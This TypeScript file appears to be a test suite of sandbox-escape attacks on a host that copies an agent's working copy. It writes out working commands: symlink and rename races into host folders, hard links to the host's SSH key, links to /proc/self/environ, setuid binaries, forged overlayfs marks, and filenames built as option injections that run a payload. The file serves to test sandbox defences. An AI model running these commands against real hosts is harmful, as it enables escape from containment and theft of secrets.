/**
 * Blind attacks by files in the working copy when the host reads, copies or removes it.
 * Rule: the author had not read the guards; no file is larger than two gigabytes, and those are sparse.
 */
import { execFileSync } from 'node:child_process';
import { existsSync, lstatSync, readdirSync, readFileSync, statSync } from 'node:fs';
import { dirname, join } from 'node:path';
import type { Attack, Outcome } from '../attack.ts';
import { python } from './blind-python.ts';

const GIBIBYTE = 1024 ** 3;

/** Attacks by files, links and their names. */
export const blindFiles: readonly Attack[] = [
  {
    name: 'link-takes-the-place-of-a-folder',
    area: 'files',
    tries: 'Turns a folder into a link to the host and back, so that a copy made from the difference writes through it',
    repository: { 'README.md': 'x\n', 'docs/secret.txt': 'an ordinary file\n', 'docs/keep.txt': 'x\n' },
    command: (host) => `rm -rf docs && ln -s ${host.folder} docs`,
    commands: () => [
      'rm -f docs && mkdir docs && echo x > docs/through-the-link && echo changed > docs/secret.txt',
      'rm -rf docs && ln -s ../../.. docs',
      'rm -f docs && mkdir docs && echo x > docs/keep.txt',
    ],
    succeeded: async (host) =>
      existsSync(host.canary('through-the-link')) ||
      readFileSync(host.canary('secret.txt'), 'utf8').trim() !== host.secret,
  },
  {
    name: 'links-that-mean-their-reader',
    area: 'files',
    tries: "Leaves links into /proc/self, which are the worker's own environment and root when the worker reads them",
    command: (host) => `
      rm -f README.md; ln -s /proc/self/environ README.md; ln -s /proc/self/environ AGENTS.md
      ln -s /proc/self/root${host.folder} root; ln -s /proc/self/root${host.folder}/secret.txt notes.txt
      ln -s /proc/thread-self/environ .gitignore; ln -s /proc/self/environ .gitattributes`,
    commands: () => ['true'],
    succeeded: async (host, outcome) => shows(outcome, host.secret),
  },
  {
    name: 'folder-swapped-while-it-is-read',
    area: 'files',
    tries: 'Leaves a process that swaps a folder with a link to the host, thousands of times, while the host reads it',
    repository: { 'leak/secret.txt': 'an ordinary file\n' },
    command: (host) =>
      python(`
import ctypes, os, time
if os.fork(): os._exit(0)
os.setsid()
if os.fork(): os._exit(0)
for fd in range(3): os.dup2(os.open('/dev/null', os.O_RDWR), fd)
os.symlink('${host.folder}', 'swap')
libc, until = ctypes.CDLL(None), time.time() + 6
while time.time() < until:
    libc.renameat2(-100, b'leak', -100, b'swap', 2)
    time.sleep(0.0002)`),
    commands: () => ['true', 'true'],
    needs: ['python3'],
    succeeded: async (host, outcome) => shows(outcome, host.secret),
  },
  {
    name: 'hard-links-to-secrets',
    area: 'files',
    tries: "Gives the host's secret files a second name in the working copy, so that the checkpoint holds them",
    command: (host) => `ln ${host.home}/.ssh/id_ed25519 key.txt; ln ${host.folder}/secret.txt secret.txt; true`,
    succeeded: async (host, outcome) => shows(outcome, host.secret),
  },
  {
    name: 'pipes-in-place-of-files',
    area: 'files',
    tries: 'Puts named pipes where the host reads files, so that its reading never ends',
    command: () => 'rm -f README.md; mkfifo README.md .mailmap AGENTS.md; mkdir docs; mkfifo docs/index.md',
    succeeded: async (_host, { trouble, durationMs }) => trouble !== undefined || durationMs > 15_000,
  },
  {
    name: 'holes-that-become-gigabytes',
    area: 'files',
    tries: 'Makes 1.2 GB of holes that cost nothing here and everything where they are delivered',
    command: () => 'for i in 1 2 3 4 5 6 7 8 9 10 11 12; do truncate -s 100M hole-$i; done; du -sh .',
    succeeded: async (_host, { tree, trouble }) => {
      const sizes = [...tree.values()].map((text) => Number(/^\(blob of (\d+) bytes\)$/.exec(text)?.[1] ?? 0));
      return trouble !== undefined || sizes.reduce((sum, size) => sum + size, 0) > GIBIBYTE;
    },
  },
  {
    name: 'set-user-id-program-left-behind',
    area: 'files',
    tries: "Leaves a program with the set-user-id bit of the worker's user where any other user of the host can run it",
    command: () => 'cp "$(command -v id)" who && chown 0:0 who; chmod 6755 who && ls -l who',
    succeeded: async (host) => filesUnder(host.workspace).some(runsAsWorkerForAnyone),
  },
  {
    name: 'working-copy-replaced-by-a-link',
    area: 'files',
    tries: 'Moves the working copy away and leaves a link to the host in its place for the next command',
    command: (host) => `here=$PWD; cd .. && mv "$here" moved && ln -s ${host.folder} "$here"; ls -la`,
    commands: () => ['echo x > planted-by-the-next-command'],
    succeeded: async (host) => existsSync(host.canary('planted-by-the-next-command')),
  },
  {
    name: 'overlay-marks-forged',
    area: 'files',
    tries:
      "Forges an overlay's own marks, so that a folder never written shows another one's files in the next command",
    repository: { 'vault/a.txt': 'content of the vault\n' },
    command: () =>
      python(`
import os
os.makedirs('decoy', exist_ok=True)
for prefix in ('trusted.', 'user.'):
    for name, value in (('redirect', b'/vault'), ('opaque', b'y'), ('metacopy', b''), ('origin', b'')):
        try: os.setxattr('decoy', prefix + 'overlay.' + name, value)
        except OSError as error: print(error)
try: os.mknod('vault-gone', 0o020000, 0)
except OSError as error: print(error)`),
    commands: () => ['cat decoy/a.txt > proof.txt; ls -la'],
    needs: ['python3'],
    succeeded: async (_host, { tree, trouble }) =>
      trouble !== undefined || tree.get('proof.txt') === 'content of the vault\n',
  },
  {
    name: 'folders-too-deep-to-name',
    area: 'names',
    tries: 'Nests 40 folders with names of 250 bytes, longer than any path may be, so that nothing is kept any more',
    command: () =>
      python(`
import os
open('honest.txt', 'w').write('honest work')
os.mkdir('deep'); os.chdir('deep')
for level in range(40):
    os.mkdir('d' * 250); os.chdir('d' * 250)
open('bottom.txt', 'w').write('bottom')`),
    commands: () => ['echo more > later.txt'],
    needs: ['python3'],
    succeeded: async (host, { tree, trouble }) => {
      // Node's own removal can't reach the deepest folder; rm can.
      execFileSync('rm', ['-rf', join(host.workspace, 'deep')], { stdio: 'ignore' });
      return trouble !== undefined || !tree.has('honest.txt') || !tree.has('later.txt');
    },
  },
  {
    name: 'names-that-are-no-text',
    area: 'names',
    tries: 'Makes two names that read the same once their bad bytes are replaced, so that one file takes the other out',
    command: () => `
      echo one > "$(printf 'twin-\\377')"; echo two > "$(printf 'twin-\\376')"; echo honest > honest.txt
      echo x > "$(printf '\\355\\240\\200')"; echo x > ' '; echo x > "$(printf 'end\\r')"; mkdir -p "$(printf '\\377')/d"`,
    succeeded: async (host, { tree, trouble }) => {
      const names = execFileSync('git', ['-C', host.store, 'ls-tree', '-r', '-z', '--name-only', host.ref]);
      const kept = [0xff, 0xfe].filter((byte) => names.includes(Buffer.from([...Buffer.from('twin-'), byte, 0])));
      return trouble !== undefined || !tree.has('honest.txt') || kept.length === 1;
    },
  },
  {
    name: 'names-that-look-like-options',
    area: 'names',
    tries: 'Names files like options that write or run something, for a host program that takes them for its own',
    command: (host) => {
      const canary = host.canary('by-option');
      return python(`
import os
open('payload.sh', 'w').write('touch ${canary}')
for name in ('--output=', '--upload-pack=touch ', '--exec=touch ', '--git-dir=', '-O', '--receive-pack=touch ', '-o'):
    path = name + '${canary}'
    os.makedirs(os.path.dirname(path), exist_ok=True)
    open(path, 'w').write('x')
for name in ('--checkpoint=1', '--checkpoint-action=exec=sh payload.sh', '--rsh=sh payload.sh', '-rf', '-i', '--help'):
    open(name, 'w').write('x')`);
    },
    commands: () => ['touch -- --all -A --hard'],
    needs: ['python3'],
    succeeded: async (host) => existsSync(host.canary('by-option')),
  },
];

function shows({ output, tree }: Outcome, secret: string): boolean {
  return output.includes(secret) || [...tree.values()].some((text) => text.includes(secret));
}

function filesUnder(folder: string): string[] {
  const entries = readdirSync(folder, { recursive: true, withFileTypes: true });
  return entries.filter((entry) => entry.isFile()).map((entry) => join(entry.parentPath, entry.name));
}

/** Whether this is a set-user-id program of our user in folders that all let other users pass. */
function runsAsWorkerForAnyone(path: string): boolean {
  const { mode, uid } = lstatSync(path);
  const isSetUserId = (mode & 0o4001) === 0o4001 && uid === process.getuid?.();
  for (let folder = dirname(path); isSetUserId; folder = dirname(folder)) {
    if ((statSync(folder).mode & 0o001) === 0) return false;
    if (folder === '/') return true;
  }
  return false;
}
